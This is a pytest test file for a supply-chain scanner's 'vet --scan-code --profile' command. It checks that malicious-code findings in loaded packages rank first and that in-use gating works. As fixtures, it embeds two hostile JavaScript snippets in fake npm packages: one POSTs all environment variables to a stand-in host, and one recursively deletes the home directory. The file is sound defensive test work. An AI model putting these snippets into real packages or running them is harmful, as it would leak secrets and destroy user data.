"""``vet --scan-code --profile``: malicious code in a package whose code ran comes first (issue 6)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from chainwarden.cli import main
from support.images import make_oci, npm_package

# inert: the host is under example.invalid, nothing here is ever run
EXFILTRATION = (
    "const https = require('https');\n"
    "const data = JSON.stringify(process.env);\n"
    "https.request({host: 'c.example.invalid', method: 'POST'}).end(data);\n"
)
WIPER = (
    "const fs = require('fs'); const os = require('os');\n"
    "module.exports = () => fs.rmSync(os.homedir(), {recursive: true});\n"
)


@pytest.fixture(scope="module")
def image(tmp_path_factory: pytest.TempPathFactory) -> Path:
    layer = {
        **npm_package("/srv/app", "env-reporter", "1.0.0"),
        **npm_package("/srv/app", "cleanup-helper", "2.0.0"),
        "/srv/app/node_modules/env-reporter/index.js": EXFILTRATION,
        "/srv/app/node_modules/cleanup-helper/index.js": WIPER,
    }
    return make_oci(tmp_path_factory.mktemp("image") / "oci", [layer])


@pytest.fixture(scope="module")
def profile_path(image: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A profile in the documented format: the app required env-reporter, never cleanup-helper."""
    from chainwarden.api import build_inventory

    inventory = build_inventory(f"oci:{image}")
    packages = [
        {
            "purl": package.purl,
            "name": package.name,
            "version": package.version,
            "ecosystem": package.ecosystem.value,
            "status": "loaded" if package.name == "env-reporter" else "unused",
            "files": {"loaded": ["/srv/app/node_modules/env-reporter/index.js"]}
            if package.name == "env-reporter"
            else {},
        }
        for package in inventory.packages
    ]
    document = {
        "format": "chainwarden-profile/1",
        "target": {"reference": f"oci:{image}", "kind": "oci", "digest": inventory.target.digest},
        "net": "none",
        "probes": [],
        "programs": [],
        "files": [],
        "network": [],
        "processes": [],
        "packages": packages,
    }
    path = tmp_path_factory.mktemp("profile") / "profile.json"
    path.write_text(json.dumps(document))
    return path


def _vet(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str]:
    code = main(["vet", "--offline", "--scan-code", *args])
    return code, capsys.readouterr().out


def test_findings_on_code_that_ran_come_first(
    image: Path, profile_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out = _vet(capsys, f"oci:{image}", "--profile", str(profile_path), "-f", "json")
    assert code == 0
    report = json.loads(out)
    threats = [
        (f["package"]["name"], f["rule_id"], f["severity"], [t for t in f["tags"] if t.startswith("in-use:")])
        for f in report["findings"]
        if f["rule_id"].startswith("malicious-")
    ]
    assert threats[0] == ("env-reporter", "malicious-env-exfiltration", "critical", ["in-use:loaded"])
    assert ("cleanup-helper", "malicious-destructive-write", "high", ["in-use:not-observed"]) in threats
    loaded = next(f for f in report["findings"] if f["package"]["name"] == "env-reporter")
    assert loaded["evidence"][0] == "in use: loaded /srv/app/node_modules/env-reporter/index.js"
    assert report["in_use"]["profile"] == str(profile_path)
    assert report["in_use"]["counts"]["loaded"] >= 1 and report["in_use"]["counts"]["not-observed"] >= 1


def test_fail_on_in_use_gates_only_code_that_ran(
    image: Path, profile_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    args = [f"oci:{image}", "--profile", str(profile_path), "-f", "json"]
    assert _vet(capsys, *args, "--fail-on-in-use", "critical")[0] == 1  # the exfiltration was loaded
    assert _vet(capsys, *args, "--fail-on", "critical")[0] == 1
    without_loaded = [*args, "--ignore", "malicious-env-exfiltration", "--ignore", "malicious-exfil-endpoint"]
    # the wiper is high but was never observed: the in-use gate passes, the plain gate does not
    assert _vet(capsys, *without_loaded, "--fail-on-in-use", "high")[0] == 0
    assert _vet(capsys, *without_loaded, "--fail-on", "high")[0] == 1


def test_table_has_a_section_per_level(image: Path, profile_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out = _vet(capsys, f"oci:{image}", "--profile", str(profile_path))
    assert code == 0
    assert f"Prioritised with {profile_path}:" in out
    assert out.index("[LOADED]") < out.index("[NOT-OBSERVED]")


def test_fail_on_in_use_needs_a_profile(image: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["vet", "--offline", f"oci:{image}", "--fail-on-in-use", "high"]) == 2
    assert "--fail-on-in-use needs --profile" in capsys.readouterr().err
